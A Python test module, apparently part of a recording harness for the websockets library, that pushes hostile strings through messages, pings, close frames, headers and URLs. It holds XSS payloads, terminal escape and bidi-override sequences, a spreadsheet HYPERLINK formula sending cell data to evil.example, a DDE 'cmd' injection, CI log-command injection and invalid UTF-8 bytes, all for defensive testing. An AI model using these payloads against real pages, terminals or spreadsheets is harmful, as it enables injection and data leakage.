"""What strangers send to whoever looks at it: markup, control characters, formulas, anywhere."""

from __future__ import annotations

from websockets.asyncio.client import connect
from websockets.asyncio.server import ServerConnection, serve

from recording.journal import CLOSE, PING, TEXT, Header
from recording.stage import Session, Stage
from sessions.judged_violations import random_key
from sessions.raw_peers import (
    RawFrame,
    RawPeer,
    raw_client,
    raw_server,
    switching_headers,
    upgrade_headers,
)

PORT, RAW_PORT = 9075, 9076
#: For a page, a terminal, a reader's eyes, a spreadsheet, a CI service, a log.
TEXTS = (
    "<script>alert(document.domain)</script>",
    "</script></style></textarea><img src=x onerror=alert(1)>",
    '{"html": "<b onmouseover=alert(1)>hover</b>", "end": "]]>-->"}',
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[8mhidden\x9b0m",
    "\u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth\ufeff \U000e0041\U000e0042",
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "::error file=app.js,line=1::injected\n##[error]injected",
    "line one\r\nline two\x00\x08\x7f\u2028line three",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306algo, \u1160\u3164\u2800, &lt;b&gt; &#x202e; \\x1b",
)
#: Not UTF-8: bytes that never occur, an overlong form, a surrogate, a character that is cut.
NO_TEXTS = (b"\xff\xfe<script>", b"\xc0\xaf\xe0\x80\xaf", b"\xed\xa0\x80", b"caf\xc3")


async def play(stage: Stage) -> None:
    """A connection of the library, one with hostile heads, one with text that is none."""
    await play_messages(stage)
    await play_heads(stage)


async def play_messages(stage: Stage) -> None:
    """Every text as a message and as a binary one, said back; in Pings and the Close."""

    async def echo(connection: ServerConnection) -> None:
        async for message in connection:
            await connection.send(message)

    options = {"compression": None, "ping_interval": None}
    server = await serve(echo, "127.0.0.1", PORT, logger=stage.logger("server"), **options)
    address = f"ws://127.0.0.1:{PORT}/look?at=%3Cscript%3Ealert(1)%3C/script%3E&this=%1B%5B2J"
    agent = "<img src=x onerror=alert(1)>"
    client = connect(address, user_agent_header=agent, logger=stage.logger("client"), **options)
    async with server, client as connection:
        for text in TEXTS:
            await connection.send(text)
            await connection.recv()
            await connection.send(text.encode())
            await connection.recv()
        await (await connection.ping(TEXTS[3].encode()))
        await connection.close(4000, TEXTS[0] + TEXTS[4])


async def play_heads(stage: Stage) -> None:
    """Hostile fields, a hostile address and reason phrase, a long field; then bytes for text."""
    hostile: list[Header] = [
        ("Origin", "http://<script>alert(1)</script>"),
        ("User-Agent", "\x1b[2J\x1b]0;owned\x07 \u202egnp.exe"),
        ("X-Formula", TEXTS[5]),
        ("X-Command", "##[error]injected ::error::injected"),
        ("X-Long", "long " * 4000),
        ("Cookie", "session=</script><script>alert(2)</script>"),
    ]

    async def answer(peer: RawPeer) -> None:
        key = await peer.receive_upgrade()
        fields = switching_headers(key, ("Server", "<b>\u202eserver\x1b[31m</b>"))
        start = "HTTP/1.1 101 <script>\x1b[2J\u202e</script>\r\n".encode()
        if peer.target.startswith("/<"):
            await peer.switch(fields, start=start)
        else:
            await peer.switch(switching_headers(key))
        await peer.close_after_other()

    notes = stage.journal("client")
    bye = RawFrame(CLOSE, b"\x03\xe8" + b"<i>bye</i>\x1b[0m")
    async with raw_server(stage.journal("server"), RAW_PORT, answer):
        async with raw_client(notes, RAW_PORT) as client:
            path = "/<script>alert(1)</script>/\x1b[31m?=cmd|'/C'!A0"
            await client.request_upgrade(path, upgrade_headers(*hostile, key=random_key()))
            await client.send(RawFrame(PING, TEXTS[1].encode()), bye)
            await client.receive_all()
        async with raw_client(notes, RAW_PORT) as client:
            await client.request_upgrade("/no-text", upgrade_headers(key=random_key()))
            await client.send(*(RawFrame(TEXT, data) for data in NO_TEXTS), bye)
            await client.receive_all()


SESSIONS = (
    Session(
        "hostile-contents",
        "markup, terminal and bidi control characters, formulas, commands for CI services and "
        "bytes that are not UTF-8, in messages, Pings, Closes, header fields and addresses",
        play,
        ("websockets",),
    ),
)
